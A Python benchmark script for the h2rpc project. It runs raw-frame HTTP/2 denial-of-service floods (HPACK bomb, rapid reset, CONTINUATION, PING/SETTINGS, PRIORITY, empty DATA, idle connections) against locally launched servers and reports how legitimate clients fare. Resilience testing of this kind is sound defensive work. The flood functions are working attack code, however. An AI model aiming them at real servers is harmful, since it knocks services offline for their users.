#!/usr/bin/python3
"""bench/floods.py: hostile HTTP/2 clients against h2rpc's servers, nghttpd and gRPC C++.

For each server and each attack, a legitimate client (h2load, paced, on connections of its own)
measures success rate and p99 latency twice: with no attack, then while the attack runs on other
connections; the server's peak RSS is read from /proc. Results go to bench/FLOODS.md.
`make floods` (bench/floods.sh) builds the servers and runs this; see bench/README.md.

  floods.py --bin BAZEL_BIN_DIR [--duration 4] [--only hpack_bomb,ping] [--servers h2rpc_grpc,...]
            [--out bench/FLOODS.md]

Every attack runs for a bounded time with bounded loops; the attacker reconnects when the server
closes its connection (a persistent attacker). Raw frames are built here (no h2 library: the
attacks are what a library refuses to send). No assertion on timing: this is a benchmark.
"""
import argparse
import os
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0, 1, 2, 3, 4, 6, 7, 8, 9)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(
        ">I", stream) + payload


def hpack_int(value, prefix, first):
    limit = (1 << prefix) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 127) | 128)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(name, value, first=0x00, prefix=4):
    """A literal field with a new name: without indexing (0x00) or with incremental indexing
    (first=0x40, prefix=6)."""
    return (hpack_int(0, prefix, first) + hpack_int(len(name), 7, 0) + name +
            hpack_int(len(value), 7, 0) + value)


def request_block(path, authority=b"127.0.0.1", grpc=True):
    block = (literal(b":method", b"POST") + literal(b":scheme", b"http") +
             literal(b":path", path) + literal(b":authority", authority))
    if grpc:
        block += literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers")
    return block


def header_frames(stream, block, end_stream, max_frame=16384):
    """HEADERS + CONTINUATIONs carrying `block`."""
    chunks = [block[i:i + max_frame] for i in range(0, len(block), max_frame)] or [b""]
    out = []
    for i, chunk in enumerate(chunks):
        last = i == len(chunks) - 1
        if i == 0:
            flags = (END_STREAM if end_stream else 0) | (END_HEADERS if last else 0)
            out.append(frame(HEADERS, flags, stream, chunk))
        else:
            out.append(frame(CONTINUATION, END_HEADERS if last else 0, stream, chunk))
    return b"".join(out)


class Conn:
    """One attacker connection: preface, SETTINGS, then whatever the attack sends. A reader
    thread drains what the server sends (unless the attack wants a peer that never reads) and
    ACKs the server's SETTINGS."""

    def __init__(self, port, read=True):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.closed = False
        self.settings_acked = threading.Event()
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        # The server's SETTINGS come first: ACK them before anything else, so that its limits
        # (maxHeaderListSize...) are in force.
        self._read_settings()
        if read:
            threading.Thread(target=self._drain, daemon=True).start()

    def _read_settings(self):
        buf = b""
        deadline = time.time() + 5
        while time.time() < deadline:
            while len(buf) >= 9:
                length = int.from_bytes(buf[:3], "big")
                if len(buf) < 9 + length:
                    break
                ftype, flags = buf[3], buf[4]
                buf = buf[9 + length:]
                if ftype == SETTINGS and not flags & ACK:
                    self.sock.sendall(frame(SETTINGS, ACK, 0))
                    return
            data = self.sock.recv(65536)
            if not data:
                raise OSError("closed before SETTINGS")
            buf += data
        raise OSError("no SETTINGS from the server")

    def _drain(self):
        try:
            self.sock.settimeout(None)
            while self.sock.recv(1 << 20):
                pass
        except OSError:
            pass
        self.closed = True

    def send(self, data):
        self.sock.sendall(data)

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


# --- attacks: each runs until `stop` is set, on its own connection(s) ------------------------

def attack_loop(port, stop, body, read=True, stats=None):
    """Runs body(conn) on a connection until it fails, then reconnects, until stop."""
    while not stop.is_set():
        try:
            conn = Conn(port, read=read)
        except OSError:
            time.sleep(0.01)
            continue
        if stats is not None:
            stats["connections"] = stats.get("connections", 0) + 1
        try:
            body(conn, stop)
        except OSError:
            pass
        conn.close()


def hpack_bomb(conn, stop, path):
    # One 4000-byte entry in the dynamic table (4000 = 1 + 3967 + 32), then requests that
    # reference it 65,536 times each (one byte each: indexed field 62).
    conn.send(header_frames(1, request_block(path) + literal(b"x", b"a" * 3967, 0x40, 6), True))
    bomb = request_block(path) + b"\xbe" * 65536
    sid = 3
    while not stop.is_set() and sid < 2**31 - 2:
        conn.send(header_frames(sid, bomb, True))
        sid += 2


def rapid_reset(conn, stop, path):
    sid = 1
    block = request_block(path)
    while not stop.is_set() and sid < 2**31 - 200:
        batch = b"".join(
            frame(HEADERS, END_HEADERS, s, block) + frame(RST_STREAM, 0, s, struct.pack(">I", 8))
            for s in range(sid, sid + 200, 2))
        conn.send(batch)
        sid += 200


def continuation_flood(conn, stop, path):
    conn.send(frame(HEADERS, 0, 1, request_block(path)))
    chunk = literal(b"x-flood", b"a" * 100) * 150
    while not stop.is_set():
        conn.send(frame(CONTINUATION, 0, 1, chunk) * 4)


def ping_flood(conn, stop, path):
    batch = frame(PING, 0, 0, b"\0" * 8) * 1000
    while not stop.is_set():
        conn.send(batch)


def settings_flood(conn, stop, path):
    batch = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 1000
    while not stop.is_set():
        conn.send(batch)


def empty_data_flood(conn, stop, path):
    conn.send(frame(HEADERS, END_HEADERS, 1, request_block(path)))
    batch = frame(DATA, 0, 1) * 2000
    while not stop.is_set():
        conn.send(batch)


def priority_flood(conn, stop, path):
    sid = 1
    while not stop.is_set() and sid < 2**31 - 4000:
        conn.send(b"".join(frame(PRIORITY, 0, s, struct.pack(">IB", s + 2, 15))
                           for s in range(sid, sid + 4000, 2)))
        sid += 4000


def window_update_0(conn, stop, path):
    sid = 1
    block = request_block(path)
    while not stop.is_set() and sid < 2**31 - 200:
        conn.send(b"".join(frame(HEADERS, END_HEADERS, s, block) +
                           frame(WINDOW_UPDATE, 0, s, struct.pack(">I", 0))
                           for s in range(sid, sid + 200, 2)))
        sid += 200


ATTACKS = {
    # name: (body, attacker connections, does the attacker read what the server sends)
    "hpack_bomb": (hpack_bomb, 1, True),
    "rapid_reset": (rapid_reset, 1, True),
    "continuation": (continuation_flood, 1, True),
    "ping": (ping_flood, 1, False),
    "settings": (settings_flood, 1, False),
    "empty_data": (empty_data_flood, 1, True),
    "priority": (priority_flood, 1, True),
    "window_update_0": (window_update_0, 1, True),
    "idle_conns": (None, 0, True),
}


def idle_connections(port, stop, count):
    """Opens `count` connections that send the preface and SETTINGS and then say nothing."""
    socks = []
    for _ in range(count):
        if stop.is_set():
            break
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=5)
            s.sendall(PREFACE + frame(SETTINGS, 0, 0))
            socks.append(s)
        except OSError:
            break
    stop.wait()
    for s in socks:
        s.close()
    return len(socks)


# --- servers ---------------------------------------------------------------------------------

def free_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    return port


class Server:
    def __init__(self, name, bin_dir, work, cpu, before_bin=None):
        self.name = name
        if name.endswith("_before"):  # the same server built from another commit
            name, bin_dir = name[:-len("_before")], before_bin
        port = free_port()
        docroot = os.path.join(work, "htdocs")
        os.makedirs(docroot, exist_ok=True)
        with open(os.path.join(docroot, "index.html"), "w") as f:
            f.write("<html>hello</html>\n")
        cmd = {
            "h2rpc_grpc": [os.path.join(bin_dir, "bench/bench_server"), f"--port={port}"],
            "h2rpc_http": [os.path.join(bin_dir, "examples/http2/hello_server"), f"--port={port}"],
            "nghttpd": ["nghttpd", "--no-tls", "-d", docroot, str(port)],
            "grpcpp": [os.path.join(bin_dir, "bench/grpcpp_bench_server"), f"--port={port}"],
        }[name]
        self.grpc = name in ("h2rpc_grpc", "grpcpp")
        self.path = (b"/grpc.testing.BenchmarkService/UnaryCall" if self.grpc else b"/index.html")
        self.log = open(os.path.join(work, name + ".log"), "w")
        self.proc = subprocess.Popen(["taskset", "-c", str(cpu)] + cmd, stdout=self.log,
                                     stderr=subprocess.STDOUT)
        self.port = port
        for _ in range(200):
            try:
                socket.create_connection(("127.0.0.1", port), timeout=1).close()
                return
            except OSError:
                time.sleep(0.05)
        raise RuntimeError(f"{name} did not start: {' '.join(cmd)}")

    def rss_kib(self):
        pid = self.proc.pid
        # taskset execs the server: same pid.
        try:
            with open(f"/proc/{pid}/status") as f:
                for line in f:
                    if line.startswith("VmRSS:"):
                        return int(line.split()[1])
        except OSError:
            return 0
        return 0

    def alive(self):
        return self.proc.poll() is None

    def stop(self):
        if self.alive():
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(5)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()
        self.log.close()


# --- the legitimate client -------------------------------------------------------------------

def legit(server, duration, work, cpu, label, req_file):
    """Paced h2load on 4 connections of its own: (success %, p99 ms, requests sent)."""
    log = os.path.join(work, f"{server.name}.{label}.h2load.log")
    if os.path.exists(log):
        os.remove(log)
    rps = 50
    cmd = ["taskset", "-c", str(cpu), "h2load", "-c", "4", "-m", "1", f"--rps={rps}",
           "-D", str(duration), "-T", "5", "-N", "5", f"--log-file={log}"]
    if server.grpc:
        cmd += ["-d", req_file, "-H", "content-type: application/grpc", "-H", "te: trailers"]
    cmd.append(f"http://127.0.0.1:{server.port}{server.path.decode()}")
    out = subprocess.run(cmd, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
                         timeout=duration + 60).stdout
    # h2load's own count: "requests: N total, N started, N done, N succeeded, ...".
    total = succeeded = 0
    for line in out.splitlines():
        if line.startswith("requests:"):
            words = line.replace(",", "").split()
            total, succeeded = int(words[1]), int(words[7])
    times = []
    ok = 0
    if os.path.exists(log):
        with open(log) as f:
            for line in f:
                parts = line.split()
                if len(parts) >= 3:
                    status, us = int(parts[1]), int(parts[2])
                    if 200 <= status < 300:
                        ok += 1
                        times.append(us)
    times.sort()
    p99 = times[min(len(times) - 1, int(len(times) * 0.99))] / 1000 if times else float("nan")
    return 100.0 * succeeded / total if total else 0.0, p99, out


def run_attack(server, name, duration, work, legit_cpu, req_file, idle_count):
    body, nconns, read = ATTACKS[name]
    stop = threading.Event()
    threads = []
    stats = {}
    peak = [server.rss_kib()]

    def watch_rss():
        while not stop.is_set():
            peak[0] = max(peak[0], server.rss_kib())
            time.sleep(0.05)

    if name == "idle_conns":
        result = {}
        t = threading.Thread(target=lambda: result.update(n=idle_connections(server.port, stop,
                                                                             idle_count)))
        t.start()
        threads.append(t)
    else:
        for _ in range(nconns):
            t = threading.Thread(target=attack_loop, args=(
                server.port, stop, lambda c, s: body(c, s, server.path), read, stats))
            t.start()
            threads.append(t)
    watcher = threading.Thread(target=watch_rss)
    watcher.start()
    time.sleep(0.5)  # the attack is under way before we measure
    success, p99, out = legit(server, duration, work, legit_cpu, name, req_file)
    stop.set()
    for t in threads:
        t.join(10)
    watcher.join()
    return success, p99, peak[0], stats.get("connections", 0), out


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--bin", required=True, help="bazel-bin directory of the --config=opt build")
    ap.add_argument("--duration", type=int, default=4)
    ap.add_argument("--servers", default="h2rpc_grpc,h2rpc_http,nghttpd,grpcpp")
    ap.add_argument("--only", default=",".join(ATTACKS))
    ap.add_argument("--idle_conns", type=int, default=1000)
    ap.add_argument("--server_cpu", type=int, default=0)
    ap.add_argument("--client_cpu", type=int, default=1)
    ap.add_argument("--out", default="bench/FLOODS.md")
    ap.add_argument("--commit", default="")
    ap.add_argument("--before_bin", default="",
                    help="bazel-bin of another build (e.g. an older commit): adds its servers as "
                         "h2rpc_grpc_before and h2rpc_http_before")
    ap.add_argument("--before_label", default="")
    args = ap.parse_args()

    work = tempfile.mkdtemp(prefix="h2rpc-floods.")
    req_file = os.path.join(work, "req0.bin")
    subprocess.run([os.path.join(args.bin, "bench/make_request"), "--req_size=0",
                    "--resp_size=0", req_file], check=True)
    attacks = [a for a in args.only.split(",") if a]
    if args.before_bin and "_before" not in args.servers:
        args.servers += ",h2rpc_grpc_before,h2rpc_http_before"

    rows = []
    for sname in args.servers.split(","):
        server = Server(sname, args.bin, work, args.server_cpu, args.before_bin)
        try:
            base_success, base_p99, out = legit(server, args.duration, work, args.client_cpu,
                                                "baseline", req_file)
            base_rss = server.rss_kib()
            print(f"{sname:11} baseline     success {base_success:5.1f}%  p99 {base_p99:8.2f} ms"
                  f"  rss {base_rss / 1024:.1f} MiB", flush=True)
            rows.append((sname, "(none)", base_success, base_p99, 1.0, base_rss, 0, True))
            for attack in attacks:
                if not server.alive():
                    break
                success, p99, peak, conns, out = run_attack(server, attack, args.duration, work,
                                                            args.client_cpu, req_file,
                                                            args.idle_conns)
                ratio = p99 / base_p99 if base_p99 == base_p99 and base_p99 > 0 else float("nan")
                alive = server.alive()
                print(f"{sname:11} {attack:16} success {success:5.1f}%  p99 {p99:8.2f} ms "
                      f"(x{ratio:.1f})  peak rss {peak / 1024:.1f} MiB  attacker conns {conns}"
                      f"{'' if alive else '  SERVER DIED'}", flush=True)
                rows.append((sname, attack, success, p99, ratio, peak, conns, alive))
        finally:
            server.stop()
    write_report(args, rows)


def write_report(args, rows):
    lines = [
        "# Floods: hostile clients against h2rpc, nghttpd and gRPC C++",
        "",
        "Written by `make floods` (bench/floods.sh → bench/floods.py); do not edit by hand.",
        f"Commit {args.commit or '?'}, {time.strftime('%Y-%m-%d %H:%M UTC', time.gmtime())}, "
        f"{os.cpu_count()} CPUs, each attack {args.duration} s. Servers on CPU {args.server_cpu}, "
        f"attacker and legitimate client on CPU {args.client_cpu}.",
        "",
        "Legitimate client: h2load, 4 connections of its own, 1 stream each, 50 requests/s each "
        "(`--rps=50`, `-T 5 -N 5`: a request unanswered after 5 s fails), unary gRPC call (h2rpc_grpc, grpcpp) or GET /index.html (h2rpc_http = "
        "examples/http2:hello_server, nghttpd). *success* = h2load's succeeded / total requests; "
        "*p99* from h2load's per-request log; *×* = p99 / the same server's p99 with no attack; "
        "*RSS* the largest VmRSS sampled every 50 ms during the attack (memory a server kept "
        "from an earlier attack shows again). The attacker reconnects whenever the "
        "server closes its connection (*conns* = connections it made). Timing on a shared 2-CPU "
        "machine is noisy: compare servers within a run, not across runs.",
        "",
        *([f"Servers named `*_before` are the same programs built from {args.before_label or 'another commit'} "
           "(before the fixes of issue 13 item 3), for comparison.", ""] if args.before_bin else []),
        "| server | attack | legit success | legit p99 (ms) | × no attack | RSS (MiB) | attacker conns |",
        "|---|---|---:|---:|---:|---:|---:|",
    ]
    for sname, attack, success, p99, ratio, rss, conns, alive in rows:
        lines.append(f"| {sname} | {attack} | {success:.1f} % | {p99:.2f} | {ratio:.1f} | "
                     f"{rss / 1024:.1f} | {conns}{'' if alive else ' (server died)'} |")
    lines += [
        "",
        "Attacks (bench/floods.py): *hpack_bomb* one 4000-byte header in the dynamic table, then "
        "requests referencing it 65,536 times each (64 KiB on the wire, 262 MB decoded); "
        "*rapid_reset* HEADERS + RST_STREAM(CANCEL) pairs (CVE-2023-44487); *continuation* one "
        "HEADERS then endless CONTINUATION frames (CVE-2024-27316 style); *ping* / *settings* "
        "floods from a peer that never reads (CVE-2019-9512/9515); *empty_data* zero-length DATA "
        "frames (CVE-2019-9518); *priority* PRIORITY frames on ever new streams (CVE-2019-9513); "
        "*window_update_0* streams each sent a WINDOW_UPDATE of 0 (a stream error each); "
        f"*idle_conns* {args.idle_conns} connections that send the preface and SETTINGS, then "
        "nothing.",
        "",
    ]
    with open(args.out, "w") as f:
        f.write("\n".join(lines))
    print(f"wrote {args.out}")


if __name__ == "__main__":
    main()
